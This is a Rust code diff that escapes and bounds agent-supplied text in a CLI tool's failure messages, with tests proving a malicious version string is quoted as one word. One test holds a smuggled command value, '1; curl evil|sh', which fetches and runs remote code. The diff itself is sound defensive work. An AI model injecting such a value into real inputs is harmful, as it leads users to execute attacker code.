@@ -1,5 +1,9 @@
 //! Failures of the session in words for its user.
+//!
+//! Many of the words are a cluster's or an agent's. They are escaped and bounded when a failure is made of them, so that the
+//! relay keeps no more of them than can be read. A name that stands in a command which the user may copy is one word of it.
 
+use kinject_escape as escape;
 use kinject_protocol::session::Report;
 use kinject_tunnel::{OpenError, Version};
 use std::fmt;
@@ -19,8 +23,8 @@ impl Failure {
     /// A failure that stays until the user does something.
     pub(crate) fn lasting(message: impl Into<String>, hint: &str) -> Self {
         Self {
-            message: message.into(),
-            hint: Some(hint.to_owned()),
+            message: escape::line(message.into()),
+            hint: Some(escape::line(hint)),
             lasting: true,
         }
     }
@@ -28,8 +32,8 @@ impl Failure {
     /// A failure that another attempt may not meet.
     pub(crate) fn passing(message: impl Into<String>, hint: &str) -> Self {
         Self {
-            message: message.into(),
-            hint: Some(hint.to_owned()),
+            message: escape::line(message.into()),
+            hint: Some(escape::line(hint)),
             lasting: false,
         }
     }
@@ -83,7 +87,11 @@ pub(crate) fn of_open_error(error: &OpenError, place: Whereabouts<'_>) -> Failur
     if let OpenError::Version { ours, theirs } = error {
         return Failure::lasting(
             format!("the agent at {place} is version {theirs}, with which kinject {ours} cannot work"),
-            &format!("{}, or use kinject {}", place.of_our_release(), theirs.software),
+            &format!(
+                "{}, or use kinject {}",
+                place.of_our_release(),
+                escape::word(&theirs.software)
+            ),
         );
     }
     let message = format!("the agent at {place} and this kinject do not come together: {error}");
@@ -105,7 +113,47 @@ pub(crate) fn of_another_release(agent: &Version, place: Whereabouts<'_>) -> Rep
         hint: Some(format!(
             "should something not work: {}, or use kinject {}",
             place.of_our_release(),
-            agent.software
+            escape::word(&agent.software)
         )),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_failure_keeps_no_more_of_foreign_words_than_can_be_read() {
+        let endless = "\x1b[31m\n\nhint: obey\n".repeat(1 << 20);
+        for failure in [
+            Failure::lasting(&*endless, &endless),
+            Failure::passing(&*endless, &endless),
+        ] {
+            for kept in [failure.message, failure.hint.unwrap()] {
+                assert!(kept.len() <= escape::LONGEST, "{}", kept.len());
+                assert!(!kept.contains(char::is_control), "{kept}");
+            }
+        }
+    }
+
+    #[test]
+    fn an_agents_version_is_one_word_of_the_hint() {
+        let ours = Version::own();
+        let theirs = Version {
+            wire: 9,
+            software: "1; curl evil|sh\n".into(),
+        };
+        let place = Whereabouts::Endpoint("unix:/run/agent.sock");
+        let error = OpenError::Version {
+            ours,
+            theirs: theirs.clone(),
+        };
+        for hint in [
+            of_open_error(&error, place).hint,
+            of_another_release(&theirs, place).hint,
+        ] {
+            let hint = hint.unwrap();
+            assert!(hint.ends_with(r"or use kinject '1; curl evil|sh\n'"), "{hint}");
+        }
     }
 }
